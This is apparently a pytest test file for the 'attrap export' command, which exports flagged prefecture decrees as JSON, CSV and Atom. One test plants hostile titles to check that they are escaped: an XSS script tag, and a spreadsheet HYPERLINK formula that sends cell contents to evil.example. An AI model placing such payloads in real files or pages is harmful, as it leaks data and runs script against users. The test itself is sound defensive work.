"""``attrap export``: the flagged decrees as JSON, CSV and Atom, checked against the fixture's oracle."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from datetime import date, datetime

from click.testing import CliRunner

from attrap.cli import main
from attrap.serve.formats import CSV_COLUMNS
from tests.conftest import SITES, invoke_cli

EXPECTED = json.loads((SITES / "pref13" / "EXPECTED.json").read_text(encoding="utf-8"))
REAL = "https://www.bouches-du-rhone.gouv.fr"
ATOM = "{http://www.w3.org/2005/Atom}"


def oracle(category: str | None = None, since: date | None = None) -> dict[str, dict]:
    """Link (…pdf#page=N) → the oracle's decree (with its recueil's published date), flagged only."""
    out = {}
    for r in EXPECTED["recueils"]:
        if since and date.fromisoformat(r["published"]) < since:
            continue
        for d in r["decrees"]:
            if d["categories"] and (category is None or category in d["categories"]):
                out[f"{REAL}{r['path']}#page={d['first_page']}"] = dict(d, published=r["published"])
    return out


def export(env: dict[str, str], *args: str) -> bytes:
    """``attrap export ARGS`` in this process (faster than a subprocess), its stdout as bytes."""
    result = CliRunner().invoke(main, ["export", *args], env=env, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.stdout_bytes


def test_json_export_is_the_flagged_decrees_of_the_oracle_newest_first(filled, tmp_path):
    # once as a user runs it, to a file
    out = tmp_path / "decrees.json"
    invoke_cli("export", "--format", "json", "--output", str(out), env=filled)
    records = json.loads(out.read_text(encoding="utf-8"))
    want = oracle()
    assert {r["link"] for r in records} == set(want) and len(records) == len(want)
    for r in records:
        d = want[r["link"]]
        assert r["title"] == d["title"] and r["number"] == d["id"]
        assert sorted(r["categories"]) == sorted(d["categories"])
        assert r["signed_on"] == d["signed_on"] and r["published"] == d["published"]
        assert r["link"] == f"{r['recueil_url']}#page={d['first_page']}"
        assert (r["source_id"], r["department"]) == ("pref13", "13")
        assert r["prefecture"] == "Préfecture des Bouches-du-Rhône"
        assert datetime.fromisoformat(r["first_seen_at"]).tzinfo is not None
        assert r["pdf_created_at"] and r["uid"].startswith("urn:uuid:")
        assert set(r["details"]) == {
            "places", "event", "start", "end", "service", "cameras", "aircraft", "legal_basis",
        }  # fmt: skip
    published = [r["published"] for r in records]
    assert published == sorted(published, reverse=True)  # newest recueil first
    assert len({r["uid"] for r in records}) == len(records)
    # details read from the decree, and the flags posts carry
    match = next(r for r in records if r["number"] == "13-2026-10-14-00003")
    assert any("Vélodrome" in p for p in match["details"]["places"]) and match["details"]["aircraft"] == 2
    avs = next(r for r in records if "avs" in r["categories"])
    assert "outside-legal-window" in [f["id"] for f in avs["flags"]]

    # the same on stdout
    assert json.loads(export(filled, "--format", "json")) == records

    # filters
    drones = json.loads(export(filled, "--category", "drone"))
    assert {r["link"] for r in drones} == set(oracle("drone")) and drones
    days = sorted({r["published"] for r in EXPECTED["recueils"]})
    since = date.fromisoformat(days[len(days) // 2])
    recent = json.loads(export(filled, "--since", since.isoformat()))
    assert {r["link"] for r in recent} == set(oracle(since=since))
    assert 0 < len(recent) < len(records)
    assert json.loads(export(filled, "--category", "avs", "--since", since.isoformat())) == [
        r for r in recent if "avs" in r["categories"]
    ]
    assert json.loads(export(filled, "--source", "pref13")) == records
    assert json.loads(export(filled, "--department", "13")) == records
    assert json.loads(export(filled, "--source", "pref01")) == []


def test_csv_and_atom_hold_the_same_decrees(filled):
    records = json.loads(export(filled, "--format", "json"))

    raw = export(filled, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert len(rows) == len(records)
    for row, r in zip(rows, records, strict=True):
        assert int(row["id"]) == r["id"] and row["title"] == r["title"] and row["link"] == r["link"]
        assert row["categories"].split(" ; ") == r["categories"]
        assert row["places"] == " ; ".join(r["details"]["places"])
        assert row["published"] == r["published"] and row["signed_on"] == r["signed_on"]
    drones = list(
        csv.DictReader(io.StringIO(export(filled, "--format", "csv", "--category", "drone").decode()))
    )
    assert {row["link"] for row in drones} == set(oracle("drone"))

    feed = ET.fromstring(export(filled, "--format", "atom"))
    assert feed.tag == f"{ATOM}feed"
    assert feed.find(f"{ATOM}id").text and feed.find(f"{ATOM}title").text
    datetime.fromisoformat(feed.find(f"{ATOM}updated").text)
    entries = feed.findall(f"{ATOM}entry")
    assert len(entries) == len(records)
    by_link = {r["link"]: r for r in records}
    for entry in entries:
        link = entry.find(f"{ATOM}link").get("href")
        r = by_link[link]
        assert entry.find(f"{ATOM}id").text == r["uid"]
        assert entry.find(f"{ATOM}title").text == r["title"]
        updated = datetime.fromisoformat(entry.find(f"{ATOM}updated").text)
        assert updated == datetime.fromisoformat(r["first_seen_at"]).replace(microsecond=0)
        assert [c.get("term") for c in entry.findall(f"{ATOM}category")] == r["categories"]
        text = entry.find(f"{ATOM}summary").text
        assert "Où :" in text and "Quand :" in text and "Qui :" in text
    assert {e.find(f"{ATOM}link").get("href") for e in entries} == set(oracle())
    avs = ET.fromstring(export(filled, "--format", "atom", "--category", "avs"))
    assert len(avs.findall(f"{ATOM}entry")) == len(oracle("avs"))


def test_untrusted_titles_are_escaped(cli_env):
    from attrap.store.db import DecreeRow, Recueil, Store

    script = "Arrêté <script>alert('x')</script> & \"drones\" ]]> sur la commune de Nice\x0b"
    formula = '=HYPERLINK("http://evil.example/?x="&A1;"clic")'
    store = Store(cli_env["ATTRAP_DATABASE_URL"])
    try:
        with store.session() as s:
            rec = Recueil(
                source_id="pref13",
                url="https://www.bouches-du-rhone.gouv.fr/raa/recueil.pdf",
                title="recueil",
                published=date(2026, 10, 1),
                status="processed",
            )
            rec.decrees = [
                DecreeRow(first_page=2, last_page=2, title=script, categories=["drone"], number="-1+1"),
                DecreeRow(
                    first_page=3,
                    last_page=3,
                    title=formula,
                    categories=["avs"],
                    details={"places": ["@Nice"]},
                ),
                DecreeRow(first_page=4, last_page=4, title="Arrêté de voirie", categories=[]),
            ]
            s.add(rec)
    finally:
        store.close()

    records = json.loads(export(cli_env))
    assert [r["title"] for r in records] == [script, formula]  # JSON keeps the text as it is

    rows = list(csv.reader(io.StringIO(export(cli_env, "--format", "csv").decode("utf-8"), newline="")))
    cells = dict(zip(rows[0], rows[2], strict=True))
    assert cells["title"] == "'" + formula and cells["places"] == "'@Nice"
    assert dict(zip(rows[0], rows[1], strict=True))["number"] == "'-1+1"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)

    raw = export(cli_env, "--format", "atom")
    assert b"<script>" not in raw and b"&lt;script&gt;" in raw
    assert b"\x0b" not in raw
    entries = ET.fromstring(raw).findall(f"{ATOM}entry")
    assert [e.find(f"{ATOM}title").text for e in entries] == [script.replace("\x0b", ""), formula]
    assert [e.find(f"{ATOM}link").get("href") for e in entries] == [
        "https://www.bouches-du-rhone.gouv.fr/raa/recueil.pdf#page=2",
        "https://www.bouches-du-rhone.gouv.fr/raa/recueil.pdf#page=3",
    ]


def test_bad_options_are_usage_errors(cli_env):
    for args, option in [
        (["--since", "2026-13-45"], "--since"),
        (["--category", "ufo"], "--category"),
        (["--source", "pref00"], "--source"),
        (["--format", "xls"], "--format"),
    ]:
        result = CliRunner().invoke(main, ["export", *args], env=cli_env)
        assert result.exit_code == 2 and option in result.output, result.output
